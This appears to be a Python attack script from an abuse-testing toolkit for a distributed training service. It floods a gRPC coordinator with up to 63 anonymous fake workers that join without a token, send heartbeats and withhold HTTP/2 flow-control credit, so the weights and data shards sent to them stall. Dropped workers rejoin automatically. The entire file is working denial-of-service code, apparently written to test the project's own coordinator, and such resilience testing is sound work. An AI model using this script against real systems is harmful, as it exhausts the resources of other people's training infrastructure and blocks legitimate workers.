"""Anonymous workers: --connections clients join through Trainer.Join (no token is needed when the
coordinator has none), keep sending heartbeats, and never read their tasks: they grant the
coordinator no flow-control credit beyond HTTP/2's initial 64 KB, so weights and shards sent to
them stay stuck. A worker the coordinator drops joins again. The messages come from the
repository's training.proto, compiled with grpc_tools at start.
"""
import os
import pathlib
import subprocess
import sys
import tempfile
import time

import attack
import grpc_wire
import h2frames as f


def training_messages(protos):
    """training_pb2 compiled from protos/disttrain/v1/training.proto into a temporary folder."""
    out = tempfile.mkdtemp(prefix="disttrain-abuse-pb-")
    subprocess.run([sys.executable, "-m", "grpc_tools.protoc", "-I", str(protos / "disttrain" / "v1"),
                    f"--python_out={out}", "training.proto"], check=True)
    sys.path.insert(0, out)
    import training_pb2
    return training_pb2


def find_protos():
    for folder in pathlib.Path(__file__).resolve().parents:
        if (folder / "protos" / "disttrain" / "v1" / "training.proto").exists():
            return folder / "protos"
    raise SystemExit("protos/disttrain/v1/training.proto not found above " + os.path.dirname(__file__))


class FakeWorker:
    def __init__(self, connection, pb, name, protocol_version):
        self.connection = connection
        self.pb = pb
        block = grpc_wire.encode_request(grpc_wire.new_encoder(), connection.authority, grpc_wire.TRAINER_JOIN)
        join = pb.WorkerMessage(join=pb.JoinRequest(worker_name=name, protocol_version=protocol_version, threads=1))
        # Default SETTINGS: a 64 KB window per stream and connection, never widened by a WINDOW_UPDATE.
        self.ready = connection.start() and connection.send(f.headers(1, block) + f.data(1, grpc_wire.message(join.SerializeToString())))

    @property
    def joined(self):
        c = self.connection
        return c.usable and 1 not in c.reset_streams and 1 not in c.ended_streams

    def heartbeat(self):
        beat = self.pb.WorkerMessage(heartbeat=self.pb.Heartbeat(sent_unix_ms=int(time.time() * 1000)))
        self.connection.send(f.data(1, grpc_wire.message(beat.SerializeToString())), timeout=0.5)


def main():
    p = attack.parser(__doc__, duration=4.0, connections=63)
    p.add_argument("--heartbeat", type=float, default=1.0, help="seconds between heartbeats (0 = none) [1.0]")
    p.add_argument("--protocol-version", type=int, default=1, help="JoinRequest.protocol_version [1]")
    p.add_argument("--protos", default=None, help="folder holding disttrain/v1/training.proto [found above this script]")
    args = p.parse_args()
    pb = training_messages(pathlib.Path(args.protos) if args.protos else find_protos())
    report = attack.Report("anonymous-workers", args)
    workers = [None] * args.connections
    joins = 0
    last_beat = 0.0
    while report.elapsed() < args.duration:
        for i, worker in enumerate(workers):
            if worker is None or not worker.joined:
                if worker is not None:
                    report.server[f"fake workers ended by the coordinator ({worker.connection.reaction()})"] += 1
                    worker.connection.close()
                connection = attack.connect(args.target, report, ack_settings=True)
                joins += 1
                workers[i] = FakeWorker(connection, pb, f"anonymous-{joins}", args.protocol_version) if connection else None
            else:
                worker.connection.drain()
        if args.heartbeat > 0 and time.monotonic() - last_beat >= args.heartbeat:
            last_beat = time.monotonic()
            for worker in workers:
                if worker is not None and worker.joined:
                    worker.heartbeat()
        time.sleep(0.02)
    report.sent["joins"] = joins
    for worker in workers:
        if worker is not None:
            worker.connection.close()
    report.finish()


if __name__ == "__main__":
    main()
